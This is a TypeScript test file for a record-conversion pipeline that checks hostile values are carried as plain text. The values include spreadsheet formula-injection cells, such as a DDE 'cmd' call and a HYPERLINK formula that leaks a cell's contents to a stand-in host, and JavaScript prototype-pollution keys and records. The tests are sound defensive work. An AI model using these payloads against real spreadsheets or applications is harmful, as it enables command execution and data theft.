/** Values and names that mean something to others (spreadsheets, JavaScript): here they are text like any other. */
import { createHash } from 'node:crypto';
import { afterEach, describe, expect, test } from 'vitest';
import { validateJobDocument } from '../../src/job/parse.js';
import type { JobInput } from '../../src/job/schema/job.js';
import { createConverter } from '../../src/records/converter.js';
import { createSource } from '../../src/sources/registry.js';
import { partitionsOf, useFolder } from '../sources/reading.js';

const folder = useFolder();

/** What objects have from the start, and would have more of if one was polluted. */
const untouched = () =>
  JSON.stringify([Object.prototype, Array.prototype].map((one) => Reflect.ownKeys(one).map(String)));
const BEFORE = untouched();

afterEach(() => {
  expect(untouched()).toBe(BEFORE);
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
});

interface Made {
  readonly body: string;
  readonly key: string | undefined;
  readonly tag: string | undefined;
  readonly properties: readonly (readonly [string, string])[] | undefined;
}

/** The messages of a job; the fault's code of a dirty record, and `filtered`. */
async function messagesOf(
  name: string,
  content: string,
  source: object,
  { sink = {}, ...more }: Partial<Omit<JobInput, 'sink'>> & { sink?: object } = {},
): Promise<(Made | string)[]> {
  const job = validateJobDocument({
    name: 'hostile',
    source: { path: folder.file(name, content), ...source },
    sink: { endpoints: '127.0.0.1:1', topic: 'none', ...sink },
    ...more,
  });
  const input = createSource(job.source, job.settings);
  const convert = createConverter(job, (await input.describe()).columns);
  const made: (Made | string)[] = [];
  for (const partition of (await partitionsOf(input)).partitions) {
    for await (const batch of input.read(partition, partition.start, new AbortController().signal)) {
      for (let i = 0; i < batch.length; i++) {
        const result = batch.fault(i) ?? convert(batch, i);
        if (typeof result === 'symbol') made.push('filtered');
        else if (!('body' in result)) made.push(result.code);
        else {
          const { key, tag, properties } = result;
          made.push({ body: Buffer.from(result.body).toString(), key, tag, properties });
        }
      }
    }
  }
  return made;
}

const bodies = (made: readonly (Made | string)[]) =>
  made.map((one) => (typeof one === 'string' ? one : one.body));

describe('cells that a spreadsheet would run', () => {
  const FORMULAS = [
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1',
    '=HYPERLINK("http://x/?"&A1)',
    '%0A-3',
  ];
  const quoted = FORMULAS.map((text) => `"${text.replaceAll('"', '""')}"`);

  test('arrive as they stand, as JSON and as CSV', async () => {
    const content = `=id,@name\n${quoted.map((cell, i) => `${i},${cell}`).join('\n')}\n`;
    const made = await messagesOf(
      '=formulas.csv',
      content,
      { type: 'csv' },
      { sink: { keyFields: ['@name'] } },
    );
    expect(bodies(made)).toEqual(FORMULAS.map((text, i) => JSON.stringify({ '=id': `${i}`, '@name': text })));
    expect(
      made.map(
        (one) => typeof one === 'object' && decodeURIComponent(one.key?.replace('%0A', '%250A') ?? ''),
      ),
    ).toEqual(FORMULAS);
    const lines = await messagesOf('+formulas.csv', content, { type: 'csv' }, { sink: { format: 'csv' } });
    expect(bodies(lines)).toEqual(FORMULAS.map((text, i) => `${i},${/["]/.test(text) ? quoted[i] : text}`));
  });

  test('and are no numbers', async () => {
    const content = `n\n${quoted.join('\n')}\n`;
    const made = await messagesOf('-formulas.csv', content, { type: 'csv', columns: { n: 'decimal' } });
    expect(made).toEqual(FORMULAS.map(() => 'not_decimal'));
  });
});

/** Names that every object of JavaScript answers to. */
const NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'prototype',
];

describe('names that every object has', () => {
  const row = NAMES.map((name) => `value of ${name}`);
  const csvText = `${NAMES.join(',')}\n${row.join(',')}\n`;
  const object = `{${NAMES.map((name, i) => `"${name}":"${row[i]}"`).join(',')}}`;
  const SOURCES = [
    ['__proto__.csv', csvText, { type: 'csv' }],
    ['constructor.ndjson', `${object}\n`, { type: 'ndjson' }],
    [
      'toString.json',
      `{"__proto__":{"constructor":[${object}]}}`,
      { type: 'json', recordPath: '__proto__.constructor' },
    ],
  ] as const;

  test.each(SOURCES)('are columns of %s like any others', async (name, content, source) => {
    expect(bodies(await messagesOf(name, content, source))).toEqual([object]);
  });

  test.each(SOURCES)('stand in keys, tags and properties of %s', async (name, content, source) => {
    const sink = {
      keyFields: ['__proto__', 'constructor'],
      tag: '${toString}',
      properties: { constructor: '${__proto__}', toString: 'a ${hasOwnProperty}', valueOf: '${prototype}' },
    };
    const [made] = await messagesOf(name, content, source, { sink });
    expect(made).toEqual({
      body: object,
      key: 'value%20of%20__proto__:value%20of%20constructor',
      tag: 'value of toString',
      properties: [
        ['constructor', 'value of __proto__'],
        ['toString', 'a value of hasOwnProperty'],
        ['valueOf', 'value of prototype'],
      ],
    });
  });

  test.each(SOURCES)(
    'are renamed, dropped, masked, added and asked for in %s',
    async (name, content, source) => {
      const [made] = await messagesOf(name, content, source, {
        transform: [
          {
            filter:
              'record["__proto__"] == "value of __proto__" && toString.startsWith("value") && record.valueOf != null',
          },
          { rename: { constructor: 'a', valueOf: 'constructor', prototype: '__proto' } },
          { drop: ['__proto__', 'hasOwnProperty'] },
          { mask: { toString: 'hash' as const, constructor: { keepLast: 3 } } },
          { constant: { valueOf: 'new', hasOwnProperty: null } },
        ],
      });
      expect(typeof made === 'object' && JSON.parse(made.body)).toEqual({
        a: 'value of constructor',
        toString: createHash('sha256').update('value of toString').digest('hex'),
        constructor: '*************eOf',
        __defineGetter__: 'value of __defineGetter__',
        __proto: 'value of prototype',
        valueOf: 'new',
        hasOwnProperty: null,
      });
    },
  );

  test.each(SOURCES)('are types of columns in %s', async (name, content, source) => {
    const columns = { constructor: 'string', toString: 'integer' } as const;
    expect(await messagesOf(name, content, { ...source, columns })).toEqual(['not_integer']);
    const strings = { constructor: 'string', valueOf: { type: 'string', required: true } } as const;
    expect(bodies(await messagesOf(name, content, { ...source, columns: strings }))).toEqual([object]);
  });

  test('are missing where they are not there', async () => {
    const fields = ['constructor', 'toString', '__proto__'];
    for (const field of fields) {
      const made = await messagesOf(
        'plain.ndjson',
        '{"a":1}\n',
        { type: 'ndjson' },
        { sink: { keyFields: [field] } },
      );
      expect(made).toEqual(['key_missing']);
      await expect(
        messagesOf('plain.csv', 'a\n1\n', { type: 'csv' }, { sink: { keyFields: [field] } }),
      ).rejects.toMatchObject({ code: 'unknown_field', fault: 'user' });
      expect(
        await messagesOf(
          'plain.ndjson',
          '{"a":1}\n',
          { type: 'ndjson' },
          { transform: [{ filter: `record["${field}"] != null` }] },
        ),
      ).toEqual(['filtered']);
    }
  });

  test('a field can be given any of them but one', async () => {
    const made = await messagesOf(
      'plain.csv',
      'a\n1\n',
      { type: 'csv' },
      { transform: [{ rename: { a: '__proto__' } }] },
    );
    expect(bodies(made)).toEqual(['{"__proto__":"1"}']);
    for (const step of ['rename', 'mask', 'constant']) {
      const transform = JSON.parse(`[{"${step}":{"__proto__":"hash"}}]`);
      await expect(messagesOf('plain.csv', 'a\n1\n', { type: 'csv' }, { transform })).rejects.toMatchObject({
        code: 'invalid_job',
        message: expect.stringContaining('this name can not be used'),
      });
    }
  });

  test('objects with them inside go through byte for byte', async () => {
    const record =
      '{"a":{"__proto__":{"polluted":true}},"constructor":{"prototype":{"polluted":true}},"__proto__":{"polluted":1}}';
    const steps = [{ constant: { b: 1 } }, { filter: 'constructor.prototype.polluted && a.size() == 1' }];
    const made = await messagesOf('deep.ndjson', `${record}\n`, { type: 'ndjson' }, { transform: steps });
    expect(bodies(made)).toEqual([`${record.slice(0, -1)},"b":1}`]);
  });
});
